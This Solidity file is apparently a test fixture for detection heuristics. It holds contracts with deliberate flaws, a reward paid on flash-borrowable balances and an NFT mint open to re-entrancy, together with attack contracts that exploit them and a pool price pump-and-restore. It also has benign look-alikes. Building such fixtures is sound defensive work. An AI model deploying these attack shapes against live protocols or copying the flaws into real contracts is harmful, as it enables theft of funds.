// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {IERC721Receiver} from "@openzeppelin/contracts/token/ERC721/IERC721Receiver.sol";

// Shapes of attacks the detection heuristics must recognise by behaviour,
// not by name: a flash lender with custom entry points and no event, a
// reward paid on a balance that can be borrowed, and an NFT mint whose limit
// is checked before its receive hook runs. Test chains only.

/// @notice ShapeToken is an ERC-20 anyone may mint (test chains only).
contract ShapeToken is ERC20 {
    constructor(string memory name_, string memory symbol_) ERC20(name_, symbol_) {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }
}

/// @notice QuietLender lends the tokens it holds through three custom entry
/// points and emits no event of its own.
contract QuietLender {
    IERC20 public immutable token;

    constructor(IERC20 token_) {
        token = token_;
    }

    /// An arbitrary-call lender: sends, calls receiver with data, checks.
    function flashLoan(uint256 amount, address receiver, bytes calldata data) external {
        uint256 before = token.balanceOf(address(this));
        require(token.transfer(receiver, amount), "transfer");
        (bool ok,) = receiver.call(data);
        require(ok, "callback failed");
        require(token.balanceOf(address(this)) >= before, "not repaid");
    }

    /// Lends to the caller, which repays in its callback.
    function flashLoan(uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        require(token.transfer(msg.sender, amount), "transfer");
        QuietBorrower(msg.sender).onQuietLoan(address(token), amount);
        require(token.balanceOf(address(this)) >= before, "not repaid");
    }

    /// Lends asset to receiver and pulls the repayment after its callback.
    function flashLoan(uint256 amount, address asset, address receiver, bytes calldata data) external {
        require(IERC20(asset).transfer(receiver, amount), "transfer");
        QuietBorrower(receiver).executeOperation(asset, amount, data);
        require(IERC20(asset).transferFrom(receiver, address(this), amount), "not repaid");
    }
}

/// @notice BalanceRewards pays, once per account, a tenth of the caller's
/// current stake balance: a balance that can be borrowed for one transaction.
contract BalanceRewards {
    IERC20 public immutable stake;
    IERC20 public immutable reward;
    mapping(address => bool) public claimed;

    constructor(IERC20 stake_, IERC20 reward_) {
        stake = stake_;
        reward = reward_;
    }

    function claim() external {
        require(!claimed[msg.sender], "claimed");
        claimed[msg.sender] = true;
        require(reward.transfer(msg.sender, stake.balanceOf(msg.sender) / 10), "transfer");
    }
}

/// @notice QuietBorrower borrows from QuietLender through each entry point,
/// claims BalanceRewards on the borrowed balance and repays.
contract QuietBorrower {
    QuietLender public immutable lender;
    BalanceRewards public immutable rewards;

    constructor(QuietLender lender_, BalanceRewards rewards_) {
        lender = lender_;
        rewards = rewards_;
    }

    function viaArbitraryCall(uint256 amount) external {
        lender.flashLoan(amount, address(this), abi.encodeCall(this.claimAndRepay, (amount)));
    }

    function claimAndRepay(uint256 amount) external {
        rewards.claim();
        require(lender.token().transfer(address(lender), amount), "repay");
    }

    function viaCaller(uint256 amount) external {
        lender.flashLoan(amount);
    }

    function onQuietLoan(address asset, uint256 amount) external {
        rewards.claim();
        require(IERC20(asset).transfer(msg.sender, amount), "repay");
    }

    function viaPull(uint256 amount) external {
        lender.flashLoan(amount, address(lender.token()), address(this), "");
    }

    function executeOperation(address asset, uint256 amount, bytes calldata) external {
        rewards.claim();
        require(IERC20(asset).approve(msg.sender, amount), "approve");
    }

    /// A benign look-alike: claims on what it holds and sends stake back to
    /// whoever lent it in an earlier transaction.
    function claimAndReturn(address to, uint256 amount) external {
        rewards.claim();
        require(lender.token().transfer(to, amount), "return");
    }
}

/// @notice PairSwap swaps two tokens one for one (a stand-in for a pool).
contract PairSwap {
    IERC20 public immutable a;
    IERC20 public immutable b;

    constructor(IERC20 a_, IERC20 b_) {
        a = a_;
        b = b_;
    }

    function swap(IERC20 tokenIn, uint256 amount) external {
        IERC20 tokenOut = tokenIn == a ? b : a;
        require(tokenIn.transferFrom(msg.sender, address(this), amount), "in");
        require(tokenOut.transfer(msg.sender, amount), "out");
    }
}

/// @notice SwapClaimer swaps and claims rewards in one transaction (benign).
contract SwapClaimer {
    function swapAndClaim(PairSwap pair, IERC20 tokenIn, uint256 amount, BalanceRewards rewards) external {
        require(tokenIn.transferFrom(msg.sender, address(this), amount), "pull");
        require(tokenIn.approve(address(pair), amount), "approve");
        pair.swap(tokenIn, amount);
        rewards.claim();
    }
}

/// @notice HookMintNFT limits each account to one mint, but counts the mint
/// after _safeMint has called the receiver's onERC721Received: a receiver
/// that mints again from its hook mints as many as it likes.
contract HookMintNFT is ERC721 {
    uint256 public nextId;
    mapping(address => uint256) public mintedBy;

    constructor() ERC721("Hook", "HOOK") {}

    function mint() external {
        require(mintedBy[msg.sender] == 0, "limit");
        _safeMint(msg.sender, nextId++);
        mintedBy[msg.sender] += 1;
    }
}

/// @notice HookMinter re-enters HookMintNFT.mint from its receive hook.
contract HookMinter is IERC721Receiver {
    HookMintNFT public immutable nft;
    uint256 public remaining;

    constructor(HookMintNFT nft_) {
        nft = nft_;
    }

    function attack(uint256 times) external {
        remaining = times;
        nft.mint();
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (remaining > 1) {
            remaining--;
            nft.mint();
        }
        return IERC721Receiver.onERC721Received.selector;
    }
}

/// @notice HookReader mints once and only reads the NFT back from its hook
/// (read-only calls into the contract: not re-entrancy).
contract HookReader is IERC721Receiver {
    HookMintNFT public immutable nft;
    uint256 public seen;

    constructor(HookMintNFT nft_) {
        nft = nft_;
    }

    function mintOne() external {
        nft.mint();
    }

    function onERC721Received(address, address, uint256 tokenId, bytes calldata) external returns (bytes4) {
        if (nft.ownerOf(tokenId) == address(this)) {
            seen = nft.balanceOf(address(this));
        }
        return IERC721Receiver.onERC721Received.selector;
    }
}

/// @notice ShapePool is a constant-product pool of two tokens that emits
/// Uniswap V2's Sync(reserve0, reserve1) after every change (no fee).
contract ShapePool {
    IERC20 public immutable token0;
    IERC20 public immutable token1;
    uint112 public reserve0;
    uint112 public reserve1;

    event Sync(uint112 reserve0, uint112 reserve1);

    constructor(IERC20 token0_, IERC20 token1_) {
        token0 = token0_;
        token1 = token1_;
    }

    function sync() public {
        reserve0 = uint112(token0.balanceOf(address(this)));
        reserve1 = uint112(token1.balanceOf(address(this)));
        emit Sync(reserve0, reserve1);
    }

    function swap(IERC20 tokenIn, uint256 amountIn) external returns (uint256 amountOut) {
        bool zeroIn = tokenIn == token0;
        require(zeroIn || tokenIn == token1, "token");
        (uint256 rIn, uint256 rOut) = zeroIn ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
        require(tokenIn.transferFrom(msg.sender, address(this), amountIn), "in");
        amountOut = amountIn * rOut / (rIn + amountIn);
        require((zeroIn ? token1 : token0).transfer(msg.sender, amountOut), "out");
        sync();
    }
}

/// @notice PoolTrader swaps on a ShapePool with the tokens it holds: pushes
/// the price and restores it in one transaction (manipulation), or swaps in
/// one direction in one or two steps (benign).
contract PoolTrader {
    function pumpAndRestore(ShapePool pool, uint256 amount) external {
        approveBoth(pool);
        uint256 got = pool.swap(pool.token0(), amount);
        pool.swap(pool.token1(), got);
    }

    function swapInSteps(ShapePool pool, uint256 amount, uint256 steps) external {
        approveBoth(pool);
        for (uint256 i = 0; i < steps; i++) {
            pool.swap(pool.token0(), amount);
        }
    }

    function approveBoth(ShapePool pool) internal {
        require(pool.token0().approve(address(pool), type(uint256).max), "approve");
        require(pool.token1().approve(address(pool), type(uint256).max), "approve");
    }
}
